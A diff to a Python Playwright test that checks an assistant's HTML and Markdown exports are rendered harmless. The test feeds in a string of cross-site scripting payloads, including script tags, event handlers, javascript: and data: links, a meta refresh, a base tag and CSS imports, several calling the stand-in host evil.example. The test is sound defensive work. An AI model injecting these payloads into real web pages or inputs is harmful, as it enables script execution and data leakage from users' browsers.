@@ -2,6 +2,7 @@
 
 from pathlib import Path
 
+from markdown_it import MarkdownIt
 from playwright.sync_api import Browser, Page
 
 from core.bootstrap import build
@@ -12,9 +13,19 @@ from core.settings import Settings, StoreSettings
 HOSTILE = (
     "<img src=https://evil.example/i.png onerror=window.ran=1> ![x](https://evil.example/p.png) "
     "</title></style></script><script>window.ran=1;fetch('https://evil.example')</script> "
-    "<svg onload=window.ran=1> <a href=javascript:window.ran=1>go</a> \\u003cscript\\u003ewindow.ran=1"
+    "<svg onload=window.ran=1> <a href=javascript:window.ran=1>go</a> \\u003cscript\\u003ewindow.ran=1 "
+    "--></textarea></pre><meta http-equiv=refresh content='0;url=https://evil.example'> "
+    "<base href=https://evil.example> "
+    "<style>@import 'https://evil.example/c';body{background:url(https://evil.example/b)}</style> "
+    "<div style=\"background:url('https://evil.example/d')\"> <iframe srcdoc='<script>top.ran=1</script>'> "
+    "[d](data:text/html,<script>window.ran=1</script>) <object data=data:text/html;base64,PHNjcmlwdD4=> "
+    "<form action=https://evil.example><input autofocus onfocus=window.ran=1> "
+    "<math href=javascript:window.ran=1>"
 )
-MADE = "img, svg, a[href^='javascript'], a[href*='evil'], iframe, object, link"
+MADE = (
+    "img, svg, math, a[href^='javascript'], a[href^='data'], a[href*='evil'], iframe, object, link, base, "
+    "form, input, meta[http-equiv='refresh'], [style*='evil'], [onload], [onerror], [onfocus]"
+)
 
 
 def opened(chromium: Browser, path: Path) -> tuple[Page, list[str]]:
@@ -34,6 +45,7 @@ def test_a_run_over_a_hostile_library_is_exported_as_text(chromium: Browser, tmp
         assistant.library.queue.wait(assistant.library.ingest([source]), timeout=120)
         report = assistant.questions.wait(assistant.questions.ask(f"Who made the pump of ETCH-07? {HOSTILE}"))
         assert report.passages
+        markdown = assistant.questions.export_markdown(report.run)
         exported = tmp_path / "run.html"
         exported.write_text(assistant.questions.export_html(report.run), encoding="utf-8")
     finally:
@@ -41,6 +53,13 @@ def test_a_run_over_a_hostile_library_is_exported_as_text(chromium: Browser, tmp
     page, asked = opened(chromium, exported)
     assert "made by Edwards" in page.inner_text("body") and "window.ran=1" in page.inner_text("blockquote")
     assert page.locator(MADE).count() == 0 and page.locator("script").count() == 0
+    assert asked == [] and page.evaluate("window.ran") is None
+    drawn = tmp_path / "drawn.html"  # as a reader of Markdown draws it that lets HTML through
+    drawn.write_text(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown), "utf-8")
+    page.close()
+    page, asked = opened(chromium, drawn)
+    assert "window.ran=1" in page.inner_text("body")
+    assert page.locator(MADE).count() == 0 and page.locator("script, style").count() == 0
     assert asked == [] and page.evaluate("window.ran") is None
     page.close()
 
